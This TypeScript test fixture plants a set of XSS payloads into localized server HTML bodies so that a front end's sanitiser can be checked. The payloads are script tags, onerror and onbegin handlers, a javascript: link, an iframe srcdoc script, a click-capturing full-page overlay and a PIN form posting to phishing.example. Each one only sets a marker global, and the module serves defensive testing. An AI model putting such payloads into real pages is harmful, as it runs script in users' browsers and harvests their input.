/**
 * Markup a careless front end would run, planted in a few bodies of server HTML (an announcement,
 * a news article, a help article, a legal document) so that the sanitising can be tested against
 * the real answers. Each piece, if it ever ran, would set `window.__serverHtmlRan` to its name;
 * the styled paragraph would cover the page.
 */
import { languages, type Language, type Localized } from './foundation-l10n.ts';

/** The global a hostile piece sets if it runs. */
export const ranGlobal = '__serverHtmlRan';

const linkText: Localized = {
  en: 'Claim your reward',
  fr: 'Réclamez votre récompense',
  'zh-CN': '领取奖励',
  'zh-Hant': '領取獎勵',
};

/** The pieces, in one language (only the link's text differs). */
export function hostileFragment(language: Language): string {
  return [
    `<script>window.${ranGlobal} = 'script'</script>`,
    `<img src="x" onerror="window.${ranGlobal} = 'onerror'">`,
    `<p><a href="javascript:window.${ranGlobal} = 'link'">${linkText[language]}</a></p>`,
    `<iframe srcdoc="<script>parent.${ranGlobal} = 'frame'</script>"></iframe>`,
    `<svg><animate onbegin="window.${ranGlobal} = 'svg'" attributeName="x" dur="1s"></animate></svg>`,
    `<p style="position:fixed;inset:0;background:#000" onclick="window.${ranGlobal} = 'click'"></p>`,
    `<form action="https://phishing.example/"><input name="pin"></form>`,
  ].join('');
}

/** The pieces after the first paragraph of a body, in each language. */
export function withHostileFragment(body: Localized): Localized {
  return Object.fromEntries(
    languages.map((language) => {
      const html = body[language];
      const at = html.indexOf('</p>');
      return [
        language,
        at < 0
          ? hostileFragment(language) + html
          : `${html.slice(0, at + 4)}${hostileFragment(language)}${html.slice(at + 4)}`,
      ];
    }),
  ) as Localized;
}

/** Whether a body carries the pieces. */
export const isHostile = (html: string): boolean => html.includes(`window.${ranGlobal} = 'script'`);
